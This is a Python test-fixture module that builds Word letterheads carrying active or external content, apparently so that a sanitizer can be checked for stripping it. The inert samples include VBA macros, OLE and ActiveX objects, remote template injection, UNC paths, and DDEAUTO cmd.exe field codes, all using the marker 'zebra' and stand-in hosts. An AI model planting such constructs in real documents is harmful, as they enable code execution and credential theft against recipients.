"""Letterheads that do something by themselves, as real Word files: `a_hostile_letterhead("macros").parts`.

What each of them must not bring along into a letter has `zebra` in it, or is one of its `signs`.
"""

from typing import NamedTuple

from lxml import etree

from wordfiles import Parts, letterhead_parts

_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
_RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
_NAMES = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    f'xmlns:r="{_OFFICE}" xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
    'xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing"'
)
DOCUMENT, FIRST_HEADER, SETTINGS = "word/document.xml", "word/header2.xml", "word/settings.xml"
BINARY = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 zebra Attribute VB_Name"
"""How an OLE compound file begins, which macros and embedded objects are."""
TEXT = "stays to be read"
"""What stands in the header as text."""


class Hostile(NamedTuple):
    """A letterhead that does something, and by what it would be known in another file."""

    parts: Parts
    signs: tuple[str, ...] = ()


def hostile_letterheads() -> dict[str, Hostile]:
    """All of them, by what they have."""
    return {**_binaries(), **_elsewhere(), **_fields(), **_in_shapes()}


def with_part(parts: Parts, name: str, data: bytes, kind: str) -> Parts:
    """The parts and one more, with its content type."""
    override = f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'.encode()
    types = parts["[Content_Types].xml"].replace(b"</Types>", override)
    return parts | {name: data, "[Content_Types].xml": types}


def related(parts: Parts, part: str, id_: str, kind: str, target: str) -> Parts:
    """The parts, one of which leads to another or to an address."""
    folder, _, file = part.rpartition("/")
    name = f"{folder}/_rels/{file}.rels"
    root = etree.fromstring(parts.get(name) or f'<Relationships xmlns="{_RELATIONSHIPS}"/>'.encode())
    added = etree.SubElement(root, f"{{{_RELATIONSHIPS}}}Relationship", Id=id_, Type=kind, Target=target)
    if ":" in target or target.startswith("\\"):
        added.set("TargetMode", "External")
    return parts | {name: etree.tostring(root)}


def in_header(parts: Parts, xml: str) -> Parts:
    """The parts, with something behind the first paragraph of the first page's header."""
    return _appended(parts, FIRST_HEADER, f"<w:p {_NAMES}><w:r><w:t>{TEXT}</w:t></w:r>{xml}</w:p>")


def in_settings(parts: Parts, xml: str) -> Parts:
    """The parts, with another setting."""
    return _appended(parts, SETTINGS, xml.replace("/>", f" {_NAMES}/>", 1))


def _appended(parts: Parts, part: str, xml: str) -> Parts:
    root = etree.fromstring(parts[part])
    root.insert(0, etree.fromstring(xml))
    return parts | {part: etree.tostring(root)}


def _in_body(parts: Parts, xml: str) -> Parts:
    root = etree.fromstring(parts[DOCUMENT])
    root[0].insert(0, etree.fromstring(xml.replace(" ", f" {_NAMES} ", 1)))
    return parts | {DOCUMENT: etree.tostring(root)}


def _binaries() -> dict[str, Hostile]:
    plain = letterhead_parts()
    vba = "application/vnd.ms-office.vbaProject"
    macros = related(plain, DOCUMENT, "rId90", f"{_MICROSOFT}/vbaProject", "vbaProject.bin")
    macros = with_part(macros, "word/vbaProject.bin", BINARY, vba)
    macros = related(macros, "word/vbaProject.bin", "rId1", f"{_MICROSOFT}/wordVbaData", "vbaData.xml")
    data = b'<wne:vbaSuppData xmlns:wne="urn:zebra"/>'
    macros = with_part(macros, "word/vbaData.xml", data, "application/vnd.ms-word.vbaData+xml")
    disguised = related(plain, FIRST_HEADER, "rId90", f"{_OFFICE}/image", "vbaProject.bin")
    disguised = in_header(with_part(disguised, "word/vbaProject.bin", BINARY, vba), _picture("rId90"))
    control = related(plain, FIRST_HEADER, "rId90", f"{_OFFICE}/control", "activeX/activeX1.xml")
    control = with_part(
        control, "word/activeX/activeX1.xml", b"<zebra/>", "application/vnd.ms-office.activeX+xml"
    )
    control = in_header(control, '<w:r><w:object><w:control r:id="rId90" w:name="zebra"/></w:object></w:r>')
    embedded = related(plain, FIRST_HEADER, "rId90", f"{_OFFICE}/oleObject", "embeddings/oleObject1.bin")
    embedded = with_part(
        embedded,
        "word/embeddings/oleObject1.bin",
        BINARY,
        "application/vnd.openxmlformats-officedocument.oleObject",
    )
    ole = '<w:r><w:object><o:OLEObject Type="Embed" ProgID="zebra" r:id="rId90"/></w:object></w:r>'
    custom = related(plain, DOCUMENT, "rId90", f"{_OFFICE}/customXml", "../customXml/item1.xml")
    custom = custom | {"customXml/item1.xml": b"<zebra/>"}
    bound = '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/zebra" w:storeItemID="{1}"/></w:sdtPr></w:sdt>'
    chunk = related(plain, DOCUMENT, "rId90", f"{_OFFICE}/aFChunk", "chunk.html")
    chunk = with_part(chunk, "word/chunk.html", b"<script>zebra</script>", "text/html")
    return {
        "macros": Hostile(macros, ("vba", "macroEnabled")),
        "macros that call themselves a picture": Hostile(disguised, ("vba", "VB_Name")),
        "an ActiveX control": Hostile(control, ("activeX",)),
        "an embedded object": Hostile(in_header(embedded, ole), ("oleObject", "embeddings")),
        "custom XML": Hostile(in_header(custom, bound), ("customXml", "dataBinding")),
        "a chunk of another format": Hostile(_in_body(chunk, '<w:altChunk r:id="rId90"/>'), ("altChunk",)),
    }


def _elsewhere() -> dict[str, Hostile]:
    plain = letterhead_parts()
    attached = '<w:attachedTemplate r:id="rId1"/>'
    by_address = related(
        plain, SETTINGS, "rId1", f"{_OFFICE}/attachedTemplate", "http://zebra.example/a.dotm"
    )
    by_path = related(plain, SETTINGS, "rId1", f"{_OFFICE}/attachedTemplate", r"file:///\\zebra\a.dotm")
    picture = related(plain, FIRST_HEADER, "rId90", f"{_OFFICE}/image", "http://zebra.example/a.png")
    object_ = related(plain, FIRST_HEADER, "rId90", f"{_OFFICE}/oleObject", "http://zebra.example/a.rtf")
    linked = '<w:r><w:object><o:OLEObject Type="Link" r:id="rId90" UpdateMode="Always"/></w:object></w:r>'
    sub = related(plain, DOCUMENT, "rId90", f"{_OFFICE}/subDocument", "http://zebra.example/a.docx")
    frames = related(plain, DOCUMENT, "rId90", f"{_OFFICE}/webSettings", "webSettings.xml")
    frames = related(frames, "word/webSettings.xml", "rId1", f"{_OFFICE}/frame", "http://zebra.example/a")
    frame = (
        f'<w:webSettings {_NAMES}><w:frameset><w:sourceFileName r:id="rId1"/></w:frameset></w:webSettings>'
    )
    mail = related(plain, SETTINGS, "rId1", f"{_OFFICE}/mailMergeSource", "file:///C:/zebra.mdb")
    merge = f'<w:mailMerge {_NAMES}><w:dataSource r:id="rId1"/></w:mailMerge>'
    link = related(plain, FIRST_HEADER, "rId90", f"{_OFFICE}/hyperlink", "file:///zebra/a.exe")
    pressed = '<w:hyperlink r:id="rId90"><w:r><w:t>here</w:t></w:r></w:hyperlink>'
    return {
        "a template attached by its address": Hostile(in_settings(by_address, attached), ("attached",)),
        "a template attached by its path": Hostile(in_settings(by_path, attached), ("attached",)),
        "a picture by its address": Hostile(in_header(picture, _picture("rId90", "link"))),
        "a picture embedded by its address": Hostile(in_header(picture, _picture("rId90"))),
        "an object by its address": Hostile(in_header(object_, linked), ("OLEObject",)),
        "a subdocument": Hostile(_in_body(sub, '<w:subDoc r:id="rId90"/>'), ("subDoc",)),
        "frames": Hostile(frames | {"word/webSettings.xml": frame.encode()}, ("frameset",)),
        "data to be merged": Hostile(_appended(mail, SETTINGS, merge), ("mailMerge",)),
        "a link to a file": Hostile(in_header(link, pressed)),
        "a part of the package that lies elsewhere": Hostile(
            related(plain, "", "rId90", f"{_OFFICE}/thumbnail", "http://zebra.example/a.emf")
        ),
    }


CODES = {
    "DDE": 'DDE cmd.exe "/c zebra"',
    "DDEAUTO": r'DDEAUTO c:\\windows\\system32\\cmd.exe "/c zebra"',
    "INCLUDEPICTURE": r'INCLUDEPICTURE "http://zebra.example/a.png" \d',
    "INCLUDETEXT": r'includetext "file:///C:/zebra.docx"',
    "LINK": r'LINK Word.Document.8 "\\\\zebra\\a.doc" \a',
    "MACROBUTTON": "MACROBUTTON zebra press",
    "HYPERLINK": r'HYPERLINK "\\\\zebra\\a.exe"',
    "DATABASE": r'DATABASE \d "C:\\zebra.mdb"',
    "QUOTE": 'QUOTE 68 68 69 "zebra"',
}


def _fields() -> dict[str, Hostile]:
    plain = letterhead_parts()
    found = {}
    for name, code in CODES.items():
        escaped = code.replace("&", "&amp;").replace('"', "&quot;")
        simple = f'<w:fldSimple w:instr=" {escaped} "><w:r><w:t>as it was</w:t></w:r></w:fldSimple>'
        found[f"{name}, a simple field"] = Hostile(in_header(plain, simple), (code[:12],))
        found[f"{name}, in pieces"] = Hostile(in_header(plain, _complex(code)), (code[:12],))
    nested = f"{_mark('begin')}{_code('PAGE ')}{_complex(CODES['DDEAUTO'])}{_mark('separate')}{_mark('end')}"
    found["a field in a field"] = Hostile(in_header(plain, nested), ("DDEAUTO",))
    endless = f"{_mark('begin')}{_code(CODES['DDEAUTO'])}"
    found["a field without end"] = Hostile(in_header(plain, endless), ("DDEAUTO",))
    found["code of no field"] = Hostile(in_header(plain, _code(CODES["DDEAUTO"])), ("DDEAUTO",))
    data = '<w:ffData><w:entryMacro w:val="zebra"/></w:ffData>'
    form = f'<w:r><w:fldChar w:fldCharType="begin">{data}</w:fldChar></w:r>'
    macro = f"{form}{_code('PAGE')}{_mark('separate')}{_mark('end')}"
    found["a field with a macro"] = Hostile(in_header(plain, macro), ("Macro",))
    return found


def _complex(code: str) -> str:
    """A complex field whose code is in pieces of three letters."""
    pieces = "".join(_code(code[at : at + 3]) for at in range(0, len(code), 3))
    return f"{_mark('begin')}{pieces}{_mark('separate')}<w:r><w:t>as it was</w:t></w:r>{_mark('end')}"


def _mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def _code(code: str) -> str:
    escaped = code.replace("&", "&amp;").replace("<", "&lt;")
    return f'<w:r><w:instrText xml:space="preserve">{escaped}</w:instrText></w:r>'


def _in_shapes() -> dict[str, Hostile]:
    plain = letterhead_parts()
    shapes = {
        "a picture of old by its address": '<v:shape><v:imagedata src="http://zebra.example/a.png"/></v:shape>',
        "a picture of old by a path": r'<v:shape><v:imagedata o:href="\\zebra\a.png"/></v:shape>',
        "a shape filled from elsewhere": '<v:rect><v:fill type="frame" src="file:///zebra.png"/></v:rect>',
        "a shape that leads to a file": '<v:rect href="file:///zebra.exe"/>',
    }
    found = {
        name: Hostile(in_header(plain, f"<w:r><w:pict>{shape}</w:pict></w:r>"))
        for name, shape in shapes.items()
    }
    video = '<a:ext uri="{1}"><wp15:webVideoPr embeddedHtml="&lt;iframe src=zebra&gt;"/></a:ext>'
    pressed = '<wp:docPr id="9" name=""><a:hlinkClick action="ppaction://macro?name=zebra"/></wp:docPr>'
    for name, inside in {"a film of the web": video, "a shape that runs a macro": pressed}.items():
        drawing = f"<w:r><w:drawing><wp:inline>{inside}</wp:inline></w:drawing></w:r>"
        found[name] = Hostile(in_header(plain, drawing), ("Video", "ppaction"))
    return found


def _picture(id_: str, how: str = "embed") -> str:
    """A drawing of the picture behind a relationship."""
    blip = f'<pic:pic><pic:blipFill><a:blip r:{how}="{id_}"/></pic:blipFill></pic:pic>'
    inside = f"<a:graphic><a:graphicData>{blip}</a:graphicData></a:graphic>"
    return f'<w:r><w:drawing><wp:inline><wp:extent cx="9" cy="9"/>{inside}</wp:inline></w:drawing></w:r>'
